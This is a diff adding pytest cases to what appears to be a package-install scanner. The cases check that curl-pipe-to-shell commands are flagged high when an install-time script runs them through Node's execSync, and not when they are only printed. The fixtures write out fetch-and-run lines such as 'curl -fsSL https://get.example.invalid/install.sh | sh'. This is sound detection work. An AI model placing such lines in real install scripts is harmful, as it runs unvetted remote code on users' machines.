@@ -203,3 +203,41 @@ def test_url_dll_starting_a_file_without_an_opener_switch_stays_high(tmp_path: P
     text = cli.read_text().replace("xdg-open", "sensible-browser")
     cli.write_text(text)
     assert _found(pkg) == {"GH-INSTALL-LOLBIN": "high"}
+
+
+def test_a_curl_pipe_in_a_message_or_comment_is_not_run_but_in_a_call_it_is(
+    tmp_path: Path,
+) -> None:
+    """Install instructions printed for the user and commented-out examples run nothing; the
+    same line given to a process call in that install-time file is high."""
+    pkg = _copy(tmp_path, "install-hint-message")
+    assert _found(pkg) == {}
+    _edit(
+        pkg / "scripts" / "check.js",
+        "  process.exitCode = 0",
+        "  require('node:child_process').execSync("
+        "'curl -fsSL https://get.example.invalid/install.sh | sh')",
+    )
+    assert _found(pkg)["GH-INSTALL-FETCH-EXEC"] == "high"  # a download run: medium beside
+
+
+def test_a_message_that_runs_its_command_still_counts(tmp_path: Path) -> None:
+    pkg = _copy(tmp_path, "install-hint-message")
+    _edit(
+        pkg / "scripts" / "check.js",
+        "  process.exitCode = 0",
+        "  console.log(require('node:child_process').execSync("
+        "'curl -fsSL https://get.example.invalid/x.sh | bash').toString())",
+    )
+    assert _found(pkg)["GH-INSTALL-FETCH-EXEC"] == "high"  # a download run: medium beside
+
+
+def test_many_printed_pipes_hide_nothing(tmp_path: Path) -> None:
+    pkg = _copy(tmp_path, "install-hint-message")
+    notes = "".join(
+        f"console.log('step {i}: curl -fsSL https://get.example.invalid/{i}.sh | sh')\n"
+        for i in range(60)
+    )
+    check = pkg / "scripts" / "check.js"
+    check.write_text(notes + check.read_text())
+    assert _found(pkg) == {"GH-INSTALL-FETCH-EXEC": "high"}
